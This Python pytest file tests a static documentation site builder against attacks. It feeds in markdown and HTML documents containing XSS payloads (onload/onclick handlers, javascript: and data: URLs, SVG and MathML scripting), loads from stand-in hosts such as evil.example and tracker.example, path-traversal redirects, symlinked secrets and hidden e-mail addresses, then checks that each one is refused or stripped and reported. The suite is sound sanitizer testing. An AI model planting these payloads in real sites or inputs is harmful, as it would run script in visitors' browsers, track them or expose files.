"""The publication guarantee, tried as an attacker and a careless editor would.

Each attack is a document that is otherwise valid and published. After a build, it is
either refused (not on the site) with a `path:line: field:` message, or published with
nothing that runs or loads from another site. The checks walk every page of the built
site, not one place, so an attack that surfaces somewhere unexpected is still caught.
"""

from __future__ import annotations

import os
import re

import pytest
from selectolax.lexbor import LexborHTMLParser

from helpers import FIXTURES, build_site, make_docs

HEAD = """---
id: {id}
kind: memo
title: Aanval {id}
date: 2021-03-01
summary: Een document met een aanval erin.
themes: [regie]
stakeholders: [rivm]
organisation: RIVM
status: published
---

Gewone tekst vooraf.

"""

# name -> body. Scripts, then loads from other sites; several variants of each class.
ATTACKS = {
    # event handlers through attribute lists, on an image, a paragraph, a link
    "attr-image": '![kaart](kaart.png){: onload="alert(1)" }\n',
    "attr-paragraph": 'Een alinea.\n{: onclick="alert(1)" }\n',
    "attr-link": '[lees](https://example.org/){: onmouseover="alert(1)" }\n',
    "attr-heading": '## Kop {: onfocus="alert(1)" tabindex="0" autofocus }\n',
    # javascript: addresses in every link form
    "js-reference": "[lees][r]\n\n[r]: javascript:alert(1)\n",
    "js-nested-parens": "[lees](javascript:alert((1)))\n",
    "js-angle": "[lees](<javascript:alert(1)>)\n",
    "js-entity": "[lees](java&#x09;script:alert(1))\n",
    "js-autolink": "<javascript:alert(1)>\n",
    "js-html": '<a href=" JaVaScRiPt:alert(1)">lees</a>\n',
    "vbscript": "[lees](vbscript:msgbox(1))\n",
    "data-html": "[lees](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n",
    # SVG and MathML scripting and animation
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text y="20">klik</text></a></svg>\n',
    "svg-set": ('<svg><a><set attributeName="href" to="javascript:alert(1)"/>'
                '<text y="20">klik</text></a></svg>\n'),
    "svg-animate": ('<svg><animate attributeName="href" values="javascript:alert(1)"/>'
                    '<script>alert(1)</script></svg>\n'),
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x'
            '</maction></math>\n',
    # HTML whose attribute values contain ">"
    "gt-in-attribute": '<div title="a>b" onmouseover="alert(1)">tekst</div>\n',
    "gt-img": '<img title=">" src="x.png" onerror="alert(1)">\n',
    "script": "<script>alert(1)</script>\n",
    "script-split": "<scr<script>ipt>alert(1)</script>\n",
    "iframe": '<iframe src="https://video.example/embed/1"></iframe>\n',
    "object": '<object data="https://evil.example/x.swf"></object>\n',
    "form": '<form action="https://evil.example/"><input name="q"><button>Zoek</button></form>\n',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
    "base": '<base href="https://evil.example/">\n',
    # images and other loads from other sites
    "img-reference": "![kaart][k]\n\n[k]: https://tracker.example/p.png\n",
    "img-backslash": "![kaart](\\\\\\\\tracker.example/p.png)\n",
    "img-html-backslash": '<img src="\\\\tracker.example/p.png" alt="x">\n',
    "img-srcset": '<img src="kaart.png" srcset="kaart.png 1x, https://tracker.example/p.png 2x" '
                  'alt="x">\n',
    "img-linked": "[![kaart](https://tracker.example/p.png)](https://example.org/)\n",
    "img-protocol-relative": "![kaart](//tracker.example/p.png)\n",
    "style-url": '<p style="background:url(https://tracker.example/p.png)">tekst</p>\n',
    "style-element": "<style>body{background:url(https://tracker.example/p.png)}</style>\n",
    "link-stylesheet": '<link rel="stylesheet" href="https://tracker.example/s.css">\n',
    "video-poster": '<video poster="https://tracker.example/p.png" src="film.mp4"></video>\n',
    "picture-source": ('<picture><source srcset="https://tracker.example/p.webp">'
                       '<img src="kaart.png" alt="x"></picture>\n'),
    # the theme reads its settings from #__config: a body element first in the page
    "config-id": '{"base":"https://tracker.example/","features":[]}\n{: #__config }\n',
    "config-div": '<div id="__config">{"base":"https://tracker.example/"}</div>\n',
    # addresses the sanitizer cannot parse are dropped: the editor must hear of it
    "bad-port": "[lees](https://example.org:99999/)\n",
    "bad-escape": '<a href="https://%zz.example/">lees</a>\n',
}

URL_ATTRIBUTES = ("href", "src", "srcset", "poster", "action", "formaction", "xlink:href",
                  "data", "background", "to", "values", "from", "by")
LOAD_ATTRIBUTES = ("src", "srcset", "poster", "data", "background")


def _normal(url: str) -> str:
    return re.sub(r"[\x00-\x20]", "", url).replace("\\", "/").lower()


def _assert_nothing_runs_or_loads(built) -> None:
    """Every page of the site: no handler, no script address, nothing from elsewhere."""
    for page in built.site.rglob("*.html"):
        tree = LexborHTMLParser(page.read_text(encoding="utf-8"))
        where = page.relative_to(built.site)
        for node in tree.css("*"):
            for name, value in node.attributes.items():
                assert not name.lower().startswith("on"), (where, node.tag, name)
                value = _normal(value or "")
                if name in URL_ATTRIBUTES:
                    assert not value.startswith(("javascript:", "vbscript:", "data:text")), (
                        where, node.tag, name, value)
                if name in LOAD_ATTRIBUTES:
                    for url in value.split(","):
                        assert not re.match(r"\s*(//|[a-z][a-z0-9+.-]*:)", url), (
                            where, node.tag, name, value)
                if name == "style":
                    assert "url(" not in value, (where, node.tag, value)
        configs = tree.css("#__config")
        assert len(configs) <= 1 and not tree.css(".md-content #__config"), where
        content = tree.css_first(".md-content")
        if content is not None:
            assert not content.css("svg script, iframe, object, embed, math, base, meta, link, "
                                   "style"), where
            assert not content.css("form, input, button") or "zoeken" in where.parts, where
        for script in tree.css("script"):
            text = script.text() or ""
            if script.attributes.get("type") == "application/ld+json":
                assert "</" not in text, where  # data, escaped: it cannot end the element
                continue
            assert "alert" not in text, (where, text[:80])
            src = script.attributes.get("src") or ""
            assert not re.match(r"\s*(//|[a-z]+:)", src), (where, src)
        for element in tree.css("meta[http-equiv], base"):
            assert "evil" not in (element.attributes.get("content") or "") + (
                element.attributes.get("href") or ""), where


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """One corpus with every attack, built non-strict (as a preview) and strict."""
    root = tmp_path_factory.mktemp("attacks")
    docs = make_docs(root, FIXTURES / "corpus")
    for name, body in ATTACKS.items():
        (docs / "documenten" / f"{name}.md").write_text(HEAD.format(id=name) + body,
                                                        encoding="utf-8")
    (docs / "documenten" / "kaart.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    lenient = build_site(docs, root / "lenient")
    strict = build_site(docs, root / "strict", strict=True)
    return lenient, strict


def test_no_attack_runs_or_loads_anything_in_a_non_strict_build(attacked):
    lenient, _ = attacked
    assert not lenient.failed, lenient.messages
    _assert_nothing_runs_or_loads(lenient)


@pytest.mark.parametrize("name", list(ATTACKS))
def test_every_attack_is_reported_with_its_file_line_and_field(attacked, name):
    lenient, strict = attacked
    reported = [m for m in lenient.messages if m.startswith(f"lessons: documenten/{name}.md:")]
    assert reported, (name, lenient.messages[-5:])
    # The attack is on line 15 or 17 (a reference definition); the body starts on 13.
    assert any(re.match(rf"lessons: documenten/{name}\.md:1[3-9]: body: ", m)
               for m in reported), reported
    assert strict.failed
    assert any(m.startswith(f"lessons: documenten/{name}.md:") for m in strict.messages)


def test_refused_or_published_clean_and_the_text_around_it_kept(attacked):
    lenient, _ = attacked
    published = [n for n in ATTACKS if lenient.exists(f"documenten/{n}")]
    # The sanitizer is what catches the attacks the source scan cannot see; those
    # documents are published without the attack, with their text.
    assert {"attr-image", "attr-paragraph", "js-reference", "img-reference",
            "img-srcset", "gt-in-attribute", "config-id", "bad-port"} <= set(published), published
    for name in published:
        body = lenient.html(f"documenten/{name}").css_first(".lessons-body")
        assert "Gewone tekst vooraf." in body.text(), name
    assert lenient.html("documenten/gt-in-attribute").css_first(".lessons-body div").text(
    ).strip() == "tekst"


def test_an_attack_on_a_page_of_the_site_own_is_removed_and_reported(tmp_path):
    docs = make_docs(tmp_path)
    (docs / "over.md").write_text(
        "# Over\n\nWelkom.\n\n![logo](logo.png){: onload=\"alert(1)\" }\n\n"
        "[mail](javascript:alert(2))\n\nMail j.jansen@example.nl.\n", encoding="utf-8")
    built = build_site(docs, tmp_path)
    assert not built.failed, built.messages
    _assert_nothing_runs_or_loads(built)
    assert "lessons: over.md:5: body: the attribute 'onload' on '<img>' runs code in the " \
           "visitor's browser and is removed" in built.messages
    assert any(m.startswith("lessons: over.md:7: body: the address 'javascript:alert(2)'")
               for m in built.messages)
    assert any(m.startswith("lessons: over.md:9: body: personal data: e-mail address "
                            "'j.jansen@example.nl' would be published") for m in built.messages)
    page = built.html("over")
    assert "Welkom." in page.text() and "j.jansen@example.nl" not in page.text()
    assert build_site(docs, tmp_path / "strict", strict=True).failed


# --- writes outside the site -------------------------------------------------------

REDIRECT_DOC = """---
id: {id}
kind: memo
title: Verhuisd {id}
date: 2021-03-01
summary: Een document met een oude naam.
themes: [regie]
stakeholders: [rivm]
organisation: RIVM
status: published
redirect_from: [{entry}]
---

Tekst.
"""


@pytest.mark.parametrize("entry", [
    "'../../index'", "'../../../buiten'", "'/../../index.html'", "'feeds/documenten.xml'",
    "'documenten/../themas/gegevensuitwisseling'", "'themas/gegevensuitwisseling'",
    "'lessen/x/../../index'",
    "'" + "a" * 300 + "'", "'a/b/c'", "'x\\n'", "'..'", "'.'", "''",
])
def test_redirect_from_never_writes_outside_its_folder(tmp_path, entry):
    docs = make_docs(tmp_path, FIXTURES / "corpus")
    (docs / "documenten" / "verhuisd.md").write_text(
        REDIRECT_DOC.format(id="verhuisd", entry=entry), encoding="utf-8")
    before = {p for p in tmp_path.rglob("*")}
    built = build_site(docs, tmp_path)
    assert not built.failed, built.messages
    assert any(m.startswith("lessons: documenten/verhuisd.md:11: redirect_from")
               for m in built.messages), built.messages
    assert not any("Traceback" in m for m in built.messages)
    outside = {p for p in tmp_path.rglob("*") if p not in before
               and not p.is_relative_to(built.site) and not p.is_relative_to(tmp_path / "cache")}
    assert not outside, outside
    home = (built.site / "index.html").read_text(encoding="utf-8")
    assert "Verplaatst" not in home and "http-equiv=\"refresh\"" not in home
    assert (built.site / "feeds" / "documenten.xml").is_file()
    assert (built.site / "themas" / "gegevensuitwisseling" / "index.html").read_text(
        encoding="utf-8").count("Verplaatst") == 0


@pytest.mark.parametrize("entry", ["alpha-verslag", "/documenten/beta-memo/"])
def test_a_redirect_never_replaces_another_document(tmp_path, entry):
    docs = make_docs(tmp_path, FIXTURES / "corpus")
    (docs / "documenten" / "verhuisd.md").write_text(
        REDIRECT_DOC.format(id="verhuisd", entry=f"'{entry}'"), encoding="utf-8")
    built = build_site(docs, tmp_path)
    target = entry.strip("/").rsplit("/", 1)[-1]
    page = built.html(f"documenten/{target}")
    assert page.css_first("h1") is not None and "Verplaatst" not in page.html
    assert any("redirect_from" in m and "exists" in m for m in built.messages), built.messages


# --- leaks -------------------------------------------------------------------------

DRAFT_WITH_MAIL = """---
id: concept-met-adres
kind: memo
title: Concept met een adres
date: 2021-03-01
summary: Nog niet klaar.
themes: [regie]
stakeholders: [rivm]
status: draft
---

Bel of mail j.jansen@example.nl.
"""


def _site_text(built) -> str:
    return "\n".join(p.read_text(encoding="utf-8", errors="replace")
                     for p in built.site.rglob("*") if p.is_file()
                     and p.suffix in {".html", ".xml", ".json", ".txt", ".md", ".bib", ".ris"})


def test_files_out_of_place_and_links_are_refused_by_name(tmp_path):
    docs = make_docs(tmp_path, FIXTURES / "corpus")
    secret = tmp_path / "geheim.txt"
    secret.write_text("GEHEIM=wachtwoord-123\n", encoding="utf-8")
    os.symlink(secret, docs / "geheim.md")
    os.symlink(secret, docs / "documenten" / "link.md")
    (tmp_path / "map").mkdir()
    (tmp_path / "map" / "x.md").write_text("# GEHEIM uit een map\n", encoding="utf-8")
    os.symlink(tmp_path / "map", docs / "gekoppeld")
    (docs / "concept.md").write_text(DRAFT_WITH_MAIL, encoding="utf-8")
    (docs / "nieuws").mkdir()
    (docs / "nieuws" / "concept.md").write_text(DRAFT_WITH_MAIL, encoding="utf-8")
    (docs / "export.csv").write_text("naam,mail\nJan,j.jansen@example.nl\n", encoding="utf-8")
    (docs / "documenten" / "notities.docx").write_bytes(b"PK\x03\x04 word")
    (docs / "script.js").write_text("alert('uit-script-js')", encoding="utf-8")
    (docs / "tekening.svg").write_text("<svg onload=\"alert('uit-svg')\"/>", encoding="utf-8")
    (docs / "vocabularies" / "extra.yml").write_text("a: b\n", encoding="utf-8")
    (docs / "latin1.md").write_bytes("# Caf\xe9\n".encode("latin-1"))
    built = build_site(docs, tmp_path)
    assert not built.failed, built.messages
    text = _site_text(built)
    for leak in ("GEHEIM", "j.jansen@example.nl", "concept-met-adres", "uit-script-js",
                 "uit-svg"):
        assert leak not in text, leak
    for name in ("geheim.md", "documenten/link.md", "gekoppeld", "concept.md",
                 "nieuws/concept.md", "export.csv", "documenten/notities.docx", "script.js",
                 "tekening.svg", "vocabularies/extra.yml", "latin1.md"):
        assert any(m.startswith(f"lessons: {name}:") for m in built.messages), (name,
                                                                               built.messages)
        assert not (built.site / name).exists(), name
    assert "lessons: latin1.md:1: file: not valid UTF-8 (byte 0xe9); save the file as " \
           "UTF-8" in built.messages
    assert any(m.startswith("lessons: concept.md:2: id: this is a document") and
               "move it to content/documenten/" in m for m in built.messages)
    assert not any("Traceback" in m for m in built.messages)
    assert build_site(docs, tmp_path / "strict", strict=True).failed


@pytest.mark.parametrize("file", [
    "content/documenten/concept.md", "sources/../content/documenten/concept.md",
    "/etc/passwd", "../geheim.txt", "sources/link.txt", "sources/x/..", "sources/pagina.html",
])
def test_an_original_comes_only_from_sources(tmp_path, file):
    docs = make_docs(tmp_path, FIXTURES / "corpus")
    (docs / "documenten" / "concept.md").write_text(DRAFT_WITH_MAIL, encoding="utf-8")
    (tmp_path / "sources").mkdir()
    (tmp_path / "sources" / "pagina.html").write_text(
        "<script>alert('origineel')</script><img src='https://tracker.example/o.png'>",
        encoding="utf-8")
    os.symlink(docs / "documenten" / "concept.md", tmp_path / "sources" / "link.txt")
    doc = REDIRECT_DOC.replace("redirect_from: [{entry}]\n", f"source:\n  file: '{file}'\n")
    (docs / "documenten" / "met-bron.md").write_text(doc.format(id="met-bron"),
                                                     encoding="utf-8")
    built = build_site(docs, tmp_path, sources_dir=str(tmp_path / "sources"))
    assert not built.failed, built.messages
    assert not list(built.site.rglob("origineel*"))
    assert "j.jansen@example.nl" not in _site_text(built)


def test_an_id_with_a_trailing_newline_is_refused(tmp_path):
    docs = make_docs(tmp_path, FIXTURES / "corpus")
    (docs / "documenten" / "nl.md").write_text(
        REDIRECT_DOC.replace("id: {id}", 'id: "regel\\n"').replace(
            "redirect_from: [{entry}]\n", ""), encoding="utf-8")
    built = build_site(docs, tmp_path)
    assert any(m.startswith("lessons: documenten/nl.md:2: id: ") for m in built.messages)
    assert not list(built.site.rglob("*%0A*")) and not list(built.site.rglob("regel*"))


# --- drafts and the public build --------------------------------------------------

def test_a_fresh_draft_never_blocks_the_public_build(tmp_path):
    from lessons.cli import new_document
    from lessons.model.kinds import KINDS

    docs = make_docs(tmp_path, FIXTURES / "corpus")
    import datetime as dt
    (docs / "documenten" / "nieuw.md").write_text(
        new_document(KINDS["memo"], "nieuw-concept", "Nieuw concept", dt.date(2024, 5, 1)),
        encoding="utf-8")
    built = build_site(docs, tmp_path, strict=True)
    assert not built.failed, built.messages
    assert not built.exists("documenten/nieuw-concept")
    # In a preview the same draft's problems are warnings, and it is still not shown.
    preview = build_site(docs, tmp_path / "preview", include_drafts=True)
    assert any(m.startswith("lessons: documenten/nieuw.md:6: summary: ")
               for m in preview.messages), preview.messages
    assert not preview.exists("documenten/nieuw-concept")


def test_a_status_typo_is_not_taken_for_a_draft(tmp_path):
    docs = make_docs(tmp_path, FIXTURES / "corpus")
    (docs / "documenten" / "typo.md").write_text(
        HEAD.format(id="typo").replace("status: published", "status: publised"),
        encoding="utf-8")
    built = build_site(docs, tmp_path, strict=True)
    assert built.failed
    assert any(m.startswith("lessons: documenten/typo.md:10: status: ") for m in built.messages)


@pytest.mark.parametrize("content, message", [
    ("data:\n  label: Caf\xe9\n".encode("latin-1"),
     "themes.yml:2: file: not valid UTF-8 (byte 0xe9); save the file as UTF-8"),
    (b'"regie\\n":\n  label: Regie\n', "themes.yml:1: "),
])
def test_a_broken_vocabulary_is_a_message_not_a_traceback(tmp_path, content, message):
    docs = make_docs(tmp_path)
    (docs / "vocabularies" / "themes.yml").write_bytes(content)
    built = build_site(docs, tmp_path)
    assert built.failed
    assert any(message in m for m in built.messages), built.messages
    assert not any("Traceback" in m for m in built.messages)


# --- found by trying: the theme's page metadata, hidden personal data, odd files -----

def test_a_page_of_the_site_own_passes_only_plain_metadata(tmp_path):
    docs = make_docs(tmp_path)
    (docs / "over.md").write_text(
        "---\ntitle: Over deze site\n"
        "subtitle: \"<img src=x onerror=alert('sub')><img src=https://tracker.example/s.png>\"\n"
        "hide: [toc]\n"
        "icon: ../../../../etc/passwd\ntemplate: document.html\n"
        "description: Contact j.jansen@example.nl\n---\n\n# Over\n\nWelkom.\n",
        encoding="utf-8")
    (docs / "toegankelijkheid.md").write_text(
        "---\ntitle: [\"<script>alert('title')</script>\"]\n"
        "author: {a: \"<img src=//tracker.example/a.png>\"}\n---\n\n# Toegankelijkheid\n",
        encoding="utf-8")
    built = build_site(docs, tmp_path)
    assert not built.failed, built.messages
    _assert_nothing_runs_or_loads(built)
    text = _site_text(built)
    for leak in ("alert('sub')", "alert('status')", "alert('title')", "tracker.example",
                 "j.jansen@example.nl"):
        assert leak not in text, leak
    (docs / "status.md").write_text(
        "---\ntitle: Status\nstatus: \"new\\\" onmouseover=\\\"alert('status')\"\n---\n\n# S\n",
        encoding="utf-8")
    built = build_site(docs, tmp_path / "again")
    assert not built.exists("status")  # a page with a status is a draft: not published
    assert "alert('status')" not in _site_text(built)
    assert any(m.startswith("lessons: status.md:3: status: pages of the site's own have no "
                            "status") for m in built.messages)
    for field, line in (("subtitle", 3), ("icon", 5), ("template", 6), ("description", 7)):
        assert any(m.startswith(f"lessons: over.md:{line}: {field}: ") for m in built.messages), (
            field, built.messages)
    assert any(m.startswith("lessons: toegankelijkheid.md:2: title: must be a line of text")
               for m in built.messages)
    assert built.html("over").css_first("h1").text().startswith("Over")
    assert build_site(docs, tmp_path / "strict", strict=True).failed


HIDDEN = {
    "entity": "Mail j.jansen&#64;example.nl of bel 06&#45;12345678.",
    "tags": "Mail j.jansen<span>@</span>example.nl.",
    "comment": "Mail j.jansen@<!-- -->example.nl.",
}


@pytest.mark.parametrize("name", list(HIDDEN))
def test_personal_data_only_the_page_would_show_is_withheld(tmp_path, name):
    docs = make_docs(tmp_path, FIXTURES / "corpus")
    (docs / "documenten" / "verstopt.md").write_text(
        HEAD.format(id="verstopt") + HIDDEN[name] + "\n", encoding="utf-8")
    built = build_site(docs, tmp_path)
    assert not built.failed, built.messages
    assert "j.jansen@example.nl" not in _site_text(built)
    assert "j.jansen" not in built.html("documenten/verstopt").css_first(".lessons-body").text()
    assert any(m.startswith("lessons: documenten/verstopt.md:15: body: personal data: e-mail "
                            "address 'j.jansen@example.nl'") for m in built.messages), (
        built.messages)


@pytest.mark.parametrize("name, content, message", [
    ("late-front-matter.md", "\n---\nid: geheim\nkind: memo\nstatus: draft\n---\n\nGEHEIM\n",
     "late-front-matter.md:3: id: this looks like a document"),
    ("toml.md", "+++\nid = 'geheim'\n+++\nid: geheim\nkind: memo\n\nGEHEIM\n",
     "toml.md:4: id: this looks like a document"),
    ("robots.txt", "# beheer: k.klaassen@example.nl GEHEIM\n",
     "robots.txt:1: body: personal data: e-mail address 'k.klaassen@example.nl'"),
    ("themas/eigen.md", "# GEHEIM\n", "themas/eigen.md:1: file: /themas/ is an address"),
    ("zoeken.md", "# GEHEIM\n", "zoeken.md:1: file: /zoeken/ is an address"),
    ("sitemap.xml.md", "# GEHEIM\n", "sitemap.xml.md:1: file: /sitemap.xml/ is an address"),
    ("pagina.xml.md", "# GEHEIM\n", "pagina.xml.md:1: file: a page name may not contain a dot"),
    ("bijlage.pdf", "%PDF-1.4 GEHEIM /OpenAction", "bijlage.pdf:1: file: files of this type"),
    ("nul.md", "# Titel\n\n" + "x" * 9000 + "\n\nk\x00@example.nl GEHEIM\n",
     "nul.md:5: file: contains a NUL character on line 5"),
    ("diep.md", "*" * 5000 + "GEHEIM" + "*" * 5000 + "\n",
     "diep.md:1: body: is nested too deeply to convert"),
    ("ipv6.md", "# Pagina\n\n[b](http://[::1/) GEHEIM-NIET\n", "ipv6.md:1: body: "),
])
def test_odd_files_in_content_are_refused_or_reported_never_a_traceback(tmp_path, name,
                                                                       content, message):
    docs = make_docs(tmp_path)
    (docs / name).parent.mkdir(parents=True, exist_ok=True)
    (docs / name).write_text(content, encoding="utf-8")
    built = build_site(docs, tmp_path)
    assert not built.failed, built.messages
    assert any(m.startswith(f"lessons: {message}") for m in built.messages), built.messages
    assert "GEHEIM" not in _site_text(built)
    assert not any("Traceback" in m for m in built.messages)


@pytest.mark.parametrize("entry, message", [
    ("  abbreviation: 112\n", "themes.yml:3: regie.abbreviation: must be text"),
    ("  parent: [governance]\n", "themes.yml:3: regie.parent: must be text"),
    ("  description: 'Contact: 06-12345678'\n", "themes.yml:3: regie.description: personal"),
    ("  description: '<img/src=x onerror=alert(1)>'\n", "themes.yml:3: regie.description: "
                                                         "contains HTML markup"),
])
def test_a_vocabulary_term_is_plain_text(tmp_path, entry, message):
    docs = make_docs(tmp_path)
    path = docs / "vocabularies" / "themes.yml"
    path.write_text("regie:\n  label: Regie\n" + entry + path.read_text(encoding="utf-8")
                    .split("\nregie:", 1)[0].split("regie:", 1)[0], encoding="utf-8")
    built = build_site(docs, tmp_path)
    assert built.failed
    assert any(message in m for m in built.messages), built.messages


def test_a_title_with_a_tag_written_without_spaces_is_refused(tmp_path):
    docs = make_docs(tmp_path, FIXTURES / "corpus")
    (docs / "documenten" / "titel.md").write_text(
        HEAD.format(id="titel").replace("title: Aanval titel",
                                        "title: \"Aanval <img/src=x onerror=alert(1)>\""),
        encoding="utf-8")
    built = build_site(docs, tmp_path)
    assert not built.exists("documenten/titel")
    assert any(m.startswith("lessons: documenten/titel.md:4: title: contains HTML markup")
               for m in built.messages), built.messages
